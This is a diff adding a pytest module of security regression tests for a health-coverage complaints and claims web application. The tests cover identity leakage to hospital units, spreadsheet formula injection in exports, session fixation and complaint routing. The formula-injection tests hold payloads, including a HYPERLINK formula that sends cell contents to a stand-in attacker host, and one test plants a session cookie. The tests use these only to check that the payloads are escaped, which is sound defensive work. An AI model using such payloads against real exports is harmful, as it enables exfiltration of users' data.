@@ -1,0 +1,181 @@
+"""What a security review of the running demo found, one test each, so that it stays found.
+
+The threat model and the list of what is tested are in docs/security.md. The bigger walks live beside this
+module: test_security_walks.py (every page a persona reaches: identities, access log, headers, bad
+parameters) and test_api_fuzz.py (schemathesis against the OpenAPI document).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+
+import pytest
+from openpyxl import load_workbook
+
+from openuhc.core import exports
+from openuhc.rights import services as rights
+from openuhc.rights.models import Case, Centre
+from openuhc.rights.tests.conftest import category
+from openuhc.testing.crawl import crawl, readable_text
+
+# --- 1. Complainant identity through staff messages ------------------------------------------------------------
+
+NAME = "Ms. Wanida Secretname"
+PHONE = "081-999-8877"
+
+
+def _file_without_consent(client, world) -> Case:
+    form = {"kind": "complaint", "province": world.province.pk, "category": category().pk, "unit": "56001",
+            "subject": "Charged for medicine", "description": "I paid 300 baht for diabetes medicine.",
+            "name": "", "contact": ""}
+    client.post("/rights/complain/", form, follow=True)
+    return Case.objects.get()
+
+
+def test_words_to_a_complainant_without_consent_never_reach_the_unit(world, client_for):
+    """Filed without consent; acknowledged and closed with the name and phone in the texts. The unit reads
+    every page, export and API it can reach: neither the name nor the phone is anywhere."""
+    case = _file_without_consent(client_for(None), world)
+    assert not case.share_identity_with_unit
+    staff = client_for("centre")
+    staff.post(f"/rights/cases/{case.number}/acknowledge/", {"text": f"Dear {NAME}, we call you at {PHONE}."})
+    staff.post(f"/rights/cases/{case.number}/note/", {"text": f"Called {NAME}", "audience": "complainant"})
+    staff.post(f"/rights/cases/{case.number}/close/",
+               {"outcome": "resolved", "outcome_text": f"Dear {NAME} ({PHONE}), the 300 baht were refunded."})
+    case.refresh_from_db()
+    assert case.is_closed and NAME in case.outcome_text
+    assert NAME in staff.get(f"/rights/cases/{case.number}/").content.decode()  # staff still read it
+
+    unit = client_for("hospital")
+    reached = []
+    for url, response, body in crawl(unit, ["/accounts/home/", "/rights/cases/?status=all",
+                                            f"/rights/cases/{case.number}/"]):
+        reached.append(url)
+        text = readable_text(response, body)
+        assert NAME not in text and PHONE not in text, url
+    assert f"/rights/cases/{case.number}/" in reached
+    page = unit.get(f"/rights/cases/{case.number}/").content.decode()
+    assert "Resolved" in page  # the unit learns the outcome, not the words written to the complainant
+    for url in _api_reads(unit, case):
+        response = unit.get(url)
+        assert response.status_code < 500, url
+        assert NAME not in response.content.decode() and PHONE not in response.content.decode(), url
+
+
+def _api_reads(client, case) -> list[str]:
+    """Every GET of the API without a path parameter, plus the case itself."""
+    schema = client.get("/api/openapi.json").json()
+    plain = [f"/api{path}" if not path.startswith("/api") else path for path, ops in schema["paths"].items()
+             if "get" in ops and "{" not in path]
+    return [*plain, f"/api/v1/rights/cases/{case.number}", "/api/v1/rights/cases?status=all"]
+
+
+def test_with_consent_the_unit_reads_the_words_to_the_complainant(world, client_for):
+    case, _secret = rights.open_case(
+        actor=world.users["centre"], kind="complaint", channel="hotline", category=category(), subject="s",
+        description="d", centre=world.centre, unit=world.hospital_a, complainant_name=NAME, consent_to_record=True,
+        share_identity_with_unit=True)
+    rights.close(case, actor=world.users["centre"], outcome="resolved", outcome_text=f"Dear {NAME}, refunded.")
+    assert f"Dear {NAME}, refunded." in client_for("hospital").get(f"/rights/cases/{case.number}/").content.decode()
+
+
+def test_the_case_page_says_who_reads_each_text(world, client_for):
+    case = _file_without_consent(client_for(None), world)
+    html = client_for("centre").get(f"/rights/cases/{case.number}/").content.decode()
+    assert "The unit concerned does not read it" in html
+    assert "did not consent to the unit learning who they are" in html
+
+
+def test_the_complainant_still_reads_the_acknowledgement_and_the_outcome(world, client_for):
+    visitor = client_for(None)
+    case = _file_without_consent(visitor, world)
+    rights.acknowledge(case, actor=world.users["centre"], text="We have your complaint.")
+    case.refresh_from_db()
+    rights.close(case, actor=world.users["centre"], outcome="resolved", outcome_text="Refunded.")
+    html = visitor.get("/rights/follow/case/").content.decode()
+    assert "We have your complaint." in html and "Refunded." in html
+
+
+# --- 2. Spreadsheet formula injection ---------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(text):
+    body = b"".join(exports.csv_response("x.csv", ["hn"], [[text], [-5]]).streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body)))
+    assert rows[1] == ["'" + text]
+    assert rows[2] == ["-5"]  # numbers stay numbers
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_excel_cells_are_text_never_formulas(text):
+    book = exports.xlsx_bytes({"S": (["hn", "n"], [[text, -5]])})
+    with zipfile.ZipFile(io.BytesIO(book)) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet
+    cell = load_workbook(io.BytesIO(book)).active["A2"]
+    assert cell.data_type == "s" and cell.quotePrefix
+    assert cell.value == text.replace("\r", "\n")  # XML reads a stored CR back as LF
+    assert load_workbook(io.BytesIO(book)).active["B2"].value == -5
+
+
+def test_an_hn_sent_as_a_formula_is_text_in_the_claims_workbook(world, client_for, tmp_path):
+    from openuhc.claims import services as claims
+    from openuhc.claims.tests.conftest import SERVICE_DAY, clean_builder
+
+    builder = clean_builder(world)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    a = world.people["a"]
+    builder.patient(hn=evil, cid=a.citizen_id, dob=a.birth_date, sex=a.sex, hospmain="56001")
+    builder.visit(hn=evil, seq="V9", on=SERVICE_DAY)
+    submission = claims.submit(builder.write(tmp_path / "s"), unit_code="56001", actor=None)
+    workbook = client_for("hospital").get(f"/claims/submissions/{submission.pk}/problems.xlsx")
+    text = readable_text(workbook)
+    assert "HYPERLINK" in text and "<f>" not in text
+    report = client_for("hospital").get(f"/claims/submissions/{submission.pk}/problems.csv")
+    cells = [cell for row in csv.reader(io.StringIO(readable_text(report))) for cell in row]
+    assert not any(cell.startswith(exports.FORMULA_STARTS) for cell in cells)
+
+
+def test_every_csv_writer_in_the_code_goes_through_the_shared_helper():
+    """`csv.writer` alone writes formulas as they are: only core/exports.py may call it."""
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[2]
+    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
+                 if "tests" not in p.parts and p.name != "exports.py"
+                 and re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))]
+    assert offenders == []
+
+
+# --- 6. Session on the public complaint form ---------------------------------------------------------------------
+
+def test_filing_a_complaint_rotates_the_session(world, client_for):
+    visitor = client_for(None)
+    visitor.get("/rights/complain/")
+    visitor.session.save()
+    planted = visitor.session.session_key
+    attacker = client_for(None)
+    attacker.cookies["sessionid"] = planted  # the same session, planted on the victim's browser
+    _file_without_consent(visitor, world)
+    assert visitor.session.session_key != planted
+    assert attacker.get("/rights/follow/case/").status_code == 302  # sent to the number-and-secret form
+
+
+# --- 10. Complaints reach the right centre -------------------------------------------------------------------------
+
+def test_a_provinces_complaints_go_to_its_peoples_centre_before_a_section_50_5_unit(world, client_for):
+    unit_50_5 = Centre.objects.create(code="A5056", name_th="หน่วย 50(5) พะเยา", kind=Centre.Kind.SECTION_50_5,
+                                      region=world.province.region)
+    unit_50_5.provinces.set([world.province])
+    assert rights.centre_for_province(world.province) == world.centre
+    case = _file_without_consent(client_for(None), world)
+    assert case.centre == world.centre
+    world.centre.is_active = False
+    world.centre.save()
+    assert rights.centre_for_province(world.province) == unit_50_5
